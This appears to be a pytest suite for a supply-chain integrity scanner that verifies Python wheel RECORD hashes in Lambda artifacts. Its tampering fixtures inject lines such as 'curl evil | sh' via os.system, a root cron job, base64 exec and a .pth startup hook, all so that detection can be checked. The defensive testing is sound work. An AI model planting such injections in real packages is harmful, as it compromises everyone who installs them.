"""Integrity (issue 4): RECORD hashes, unrecorded files, missing RECORDs, on authored installs."""

from __future__ import annotations

import base64
import hashlib
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from wellcheck.artifact.memory import MemoryTree
from wellcheck.checks import CheckContext
from wellcheck.models import ArtifactInfo, Component, ComponentKind, Finding, Severity
from wellcheck.scan.target import scan_artifacts
from wellcheck.signals.integrity import IntegrityCheck, check_tree

Files = dict[str, bytes]

SITE = "python/lib/python3.12/site-packages"  # a Lambda layer's site root


def record_line(path: str, data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{path},sha256={digest},{len(data)}"


def install(
    name: str,
    version: str,
    modules: Files,
    *,
    site: str = SITE,
    scripts: Files | None = None,
    extra_record: tuple[str, ...] = (),
) -> tuple[Files, Component]:
    """Lay out a wheel install the way pip does (paths in the tree, RECORD, Component)."""
    dist = f"{name.replace('-', '_')}-{version}.dist-info"
    prefix = f"{site}/" if site else ""
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n".encode()
    files: Files = {**modules, f"{dist}/METADATA": meta, f"{dist}/INSTALLER": b"pip\n"}
    lines = [record_line(path, data) for path, data in files.items()]
    tree: Files = {f"{prefix}{path}": data for path, data in files.items()}
    for script, data in (scripts or {}).items():
        lines.append(record_line(f"../../bin/{script}", data))
        tree[f"bin/{script}"] = data
    lines += [*extra_record, f"{dist}/RECORD,,"]
    record = "\n".join(lines) + "\n"
    tree[f"{prefix}{dist}/RECORD"] = record.encode()
    tops = sorted({path.split("/")[0].removesuffix(".py") for path in modules})
    component = Component(
        name=name,
        version=version,
        kind=ComponentKind.DIST_INFO,
        location=f"{prefix}{dist}",
        display_name=name,
        site_root=site,
        top_level=tuple(tops),
        files=tuple(line.split(",")[0] for line in lines),
    )
    return tree, component


def requests_install(site: str = SITE) -> tuple[Files, Component]:
    return install(
        "requests",
        "2.32.3",
        {
            "requests/__init__.py": b"from .api import get\n",
            "requests/api.py": b"def get(url):\n    return url\n",
            "requests/adapters.py": b"class HTTPAdapter:\n    pass\n",
        },
        site=site,
    )


def urllib3_install() -> tuple[Files, Component]:
    return install(
        "urllib3",
        "2.2.2",
        {"urllib3/__init__.py": b"__version__ = '2.2.2'\n", "urllib3/poolmanager.py": b"X = 1\n"},
    )


def run(files: Files, components: list[Component], kind: str = "lambda-layer") -> list[Finding]:
    tree = MemoryTree(files)
    context = CheckContext(ArtifactInfo(path="layer.zip", kind=kind), trees=(tree,))
    result = IntegrityCheck(workers=1).run(components, context)
    assert result.skipped == ()
    return list(result.findings)


def rules(findings: list[Finding]) -> list[tuple[str, Severity]]:
    return sorted((f.rule, f.severity) for f in findings)


def test_a_clean_install_gives_no_integrity_finding() -> None:
    req_files, req = requests_install()
    url_files, url = urllib3_install()
    assert run({**req_files, **url_files}, [req, url]) == []


def _pyc_and_installer_noise(files: Files, component: Component) -> None:
    dist = component.location
    files[f"{SITE}/requests/__pycache__/api.cpython-312.pyc"] = b"\x00compiled"
    files[f"{SITE}/requests/api.pyc"] = b"\x00legacy"
    files[f"{dist}/INSTALLER"] = b"uv\n"  # rewritten by another installer
    files[f"{dist}/REQUESTED"] = b""
    files[f"{dist}/direct_url.json"] = b'{"url": "file:///build/requests.whl"}'
    files[f"{dist}/licenses/LICENSE"] = b"Apache-2.0"


def test_benign_installer_changes_are_not_findings() -> None:
    files, component = requests_install()
    _pyc_and_installer_noise(files, component)
    scripted, tool = install(
        "charset-normalizer",
        "3.3.2",
        {"charset_normalizer/__init__.py": b"X = 1\n"},
        scripts={"normalizer": b"#!/usr/bin/python\nimport sys\n"},
    )
    scripted["bin/normalizer"] = b"#!/var/lang/bin/python3.12\nimport sys\n"  # shebang rewrite
    assert run({**files, **scripted}, [component, tool]) == []


Mutation = Callable[[Files, Component], None]


def _modify(files: Files, c: Component) -> None:
    files[f"{SITE}/requests/adapters.py"] += b"\nimport os; os.system('curl evil | sh')\n"


def _add_module(files: Files, c: Component) -> None:
    files[f"{SITE}/requests/_telemetry.py"] = b"import socket\n"


def _drop_record(files: Files, c: Component) -> None:
    del files[f"{c.location}/RECORD"]


def _drop_file(files: Files, c: Component) -> None:
    del files[f"{SITE}/requests/adapters.py"]


def _retag_version(files: Files, c: Component) -> None:
    files[f"{c.location}/METADATA"] = files[f"{c.location}/METADATA"].replace(b"2.32.3", b"2.99")


def _garble_record(files: Files, c: Component) -> None:
    files[f"{c.location}/RECORD"] += b"requests/x.py,sha256=!!!notbase64!!!,12\n"


def _non_utf8_record(files: Files, c: Component) -> None:
    files[f"{c.location}/RECORD"] = b"\xff\xfe\x00garbage"


CASES: list[tuple[str, Mutation, list[tuple[str, Severity]]]] = [
    ("modified file", _modify, [("WC-INTEG-MODIFIED", Severity.HIGH)]),
    ("unrecorded module", _add_module, [("WC-INTEG-UNRECORDED", Severity.MEDIUM)]),
    ("missing RECORD", _drop_record, [("WC-INTEG-NO-RECORD", Severity.LOW)]),
    ("non-UTF-8 RECORD", _non_utf8_record, [("WC-INTEG-NO-RECORD", Severity.LOW)]),
    ("listed file missing", _drop_file, [("WC-INTEG-MISSING", Severity.LOW)]),
    ("METADATA version edited", _retag_version, [("WC-INTEG-MODIFIED", Severity.HIGH)]),
    ("garbled RECORD row", _garble_record, [("WC-INTEG-BAD-RECORD", Severity.LOW)]),
]


@pytest.mark.parametrize(("label", "mutate", "expected"), CASES, ids=[c[0] for c in CASES])
def test_each_tampering_is_found_with_its_rule_and_severity(
    label: str, mutate: Mutation, expected: list[tuple[str, Severity]]
) -> None:
    files, component = requests_install()
    url_files, url = urllib3_install()
    mutate(files, component)
    findings = run({**files, **url_files}, [component, url])
    assert rules(findings) == expected
    assert all(f.package == "requests" and f.version == "2.32.3" for f in findings)
    assert all(f.kind == "integrity" and f.location == component.location for f in findings)


def test_a_modified_file_shows_expected_and_actual_hashes() -> None:
    files, component = requests_install()
    original = files[f"{SITE}/requests/adapters.py"]
    _modify(files, component)
    (finding,) = run(files, [component])
    assert "requests/adapters.py" in finding.title
    assert hashlib.sha256(original).hexdigest() in finding.evidence
    assert hashlib.sha256(files[f"{SITE}/requests/adapters.py"]).hexdigest() in finding.evidence


def test_a_file_of_the_same_size_but_other_content_is_modified() -> None:
    files, component = requests_install()
    path = f"{SITE}/requests/api.py"
    files[path] = files[path].replace(b"url", b"URL")
    assert rules(run(files, [component])) == [("WC-INTEG-MODIFIED", Severity.HIGH)]


def test_code_added_at_the_site_root_is_left_to_the_inventory() -> None:
    files, component = requests_install()
    files[f"{SITE}/evil.py"] = b"import os\n"  # "unclaimed code": listed by the inventory
    assert run(files, [component]) == []


def test_distro_packages_without_record_are_only_informational() -> None:
    site = "usr/lib/python3/dist-packages"
    files, component = requests_install(site=site)
    _drop_record(files, component)
    assert rules(run(files, [component], kind="docker-archive")) == [
        ("WC-INTEG-NO-RECORD", Severity.INFO)
    ]


def test_namespace_directories_shared_by_distributions_are_not_unrecorded() -> None:
    core_files, core = install(
        "google-api-core", "2.19.1", {"google/api_core/__init__.py": b"A = 1\n"}
    )
    proto_files, proto = install("protobuf", "5.27.2", {"google/protobuf/__init__.py": b"P = 1\n"})
    files = {**core_files, **proto_files}
    assert run(files, [core, proto]) == []
    files[f"{SITE}/google/_hook.py"] = b"import os\n"
    (finding,) = run(files, [core, proto])
    assert finding.rule == "WC-INTEG-UNRECORDED"
    assert "google/_hook.py" in finding.title
    assert "shared with" in finding.evidence


def test_record_paths_leaving_the_site_root_are_reported_not_hashed() -> None:
    escape = record_line("../../../../etc/cron.d/job", b"* * * * * root true\n")
    files, component = install(
        "jupyterlab", "4.2.4", {"jupyterlab/__init__.py": b"J = 1\n"}, extra_record=(escape,)
    )
    files["etc/cron.d/job"] = b"* * * * * root curl evil | sh\n"  # never read
    (finding,) = run(files, [component])
    assert (finding.rule, finding.severity) == ("WC-INTEG-OUTSIDE", Severity.INFO)
    assert "etc/cron.d/job" in finding.evidence


def test_many_modified_files_are_capped_with_a_summary() -> None:
    modules = {f"bigpkg/m{i}.py": f"X = {i}\n".encode() for i in range(30)}
    files, component = install("bigpkg", "1.0", modules)
    for i in range(30):
        files[f"{SITE}/bigpkg/m{i}.py"] = b"tampered\n"
    findings = run(files, [component])
    assert len(findings) == 21
    assert "10 more files" in findings[-1].title


def test_symlinked_files_are_followed_inside_the_tree() -> None:
    files, component = requests_install()
    real = files.pop(f"{SITE}/requests/api.py")
    files["opt/shared/api.py"] = real
    tree = MemoryTree(
        files, symlinks={f"{SITE}/requests/api.py": "../../../../../opt/shared/api.py"}
    )
    findings, skipped = check_tree(tree, [component])
    assert findings == [] and skipped == []
    tree = MemoryTree(files, symlinks={f"{SITE}/requests/api.py": "../../../../../../../../etc/x"})
    findings, _ = check_tree(tree, [component])
    assert rules(findings) == [("WC-INTEG-MODIFIED", Severity.HIGH)]


def test_components_of_a_missing_tree_are_not_checked_rather_than_clean() -> None:
    _, component = requests_install()
    nested = replace(component, chain=("vendor/inner.zip",))
    context = CheckContext(ArtifactInfo(path="f.zip", kind="lambda-zip"), trees=(MemoryTree({}),))
    result = IntegrityCheck(workers=1).run([nested], context)
    assert result.findings == ()
    assert [(s.source, s.package) for s in result.skipped] == [("integrity", "requests")]


def test_nested_trees_are_matched_by_chain() -> None:
    files, component = requests_install(site="")
    _modify_root = files["requests/adapters.py"] + b"#"
    files["requests/adapters.py"] = _modify_root
    chain = ("vendor/requests.zip",)
    nested = replace(component, chain=chain)
    outer = MemoryTree({"handler.py": b"def handler(e, c): pass\n"})
    inner = MemoryTree(files, chain=chain)
    context = CheckContext(ArtifactInfo(path="f.zip", kind="lambda-zip"), trees=(outer, inner))
    (finding,) = IntegrityCheck(workers=1).run([nested], context).findings
    assert finding.rule == "WC-INTEG-MODIFIED"
    assert finding.location == "vendor/requests.zip!requests-2.32.3.dist-info"


def test_a_function_zip_scanned_end_to_end(tmp_path: Path) -> None:
    """Through the real zip reader, inventory and scan loop, with two hashing workers."""
    req_files, _ = requests_install(site="")
    url_files, _ = urllib3_install_at_root()
    files = {**req_files, **url_files, "lambda_function.py": b"import requests\n"}
    files["requests/adapters.py"] += b"\nexec(__import__('base64').b64decode('cHJpbnQ='))\n"
    files["urllib3/_hook.py"] = b"import socket\n"
    files["sitecustomize.py"] = b"import os\n"
    files["zz_evil.pth"] = b"import os; os.system('id')\n"
    files["distutils-precedence.pth"] = DISTUTILS_PTH.encode()
    artifact = tmp_path / "function.zip"
    with zipfile.ZipFile(artifact, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    outcome = scan_artifacts([str(artifact)], [IntegrityCheck(workers=2)])
    (result,) = outcome.results
    assert result.error is None and result.skipped == ()
    assert {c.name for c in result.components} >= {"requests", "urllib3"}
    signals = [f for f in result.findings if f.kind != "verdict"]  # WC-POISON-SUSPECT aside
    assert sorted((f.rule, f.package, f.severity) for f in signals) == [
        ("WC-INTEG-MODIFIED", "requests", Severity.HIGH),
        ("WC-INTEG-UNRECORDED", "urllib3", Severity.MEDIUM),
        ("WC-PTH-EXEC", "", Severity.HIGH),
        ("WC-STARTUP-SITECUSTOMIZE", "", Severity.HIGH),
    ]


DISTUTILS_PTH = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
    "'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
)


def urllib3_install_at_root() -> tuple[Files, Component]:
    return install(
        "urllib3",
        "2.2.2",
        {"urllib3/__init__.py": b"__version__ = '2.2.2'\n", "urllib3/poolmanager.py": b"X = 1\n"},
        site="",
    )


def test_an_unpacked_directory_is_checked_with_threads(tmp_path: Path) -> None:
    files, _ = requests_install(site="")
    files["requests/api.py"] = b"def get(url):\n    return 'http://evil' + url\n"
    for name, data in files.items():
        target = tmp_path / "fn" / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    (result,) = scan_artifacts([str(tmp_path / "fn")], [IntegrityCheck(workers=2)]).results
    signals = [f for f in result.findings if f.kind != "verdict"]  # WC-POISON-SUSPECT aside
    assert [(f.rule, f.package) for f in signals] == [("WC-INTEG-MODIFIED", "requests")]
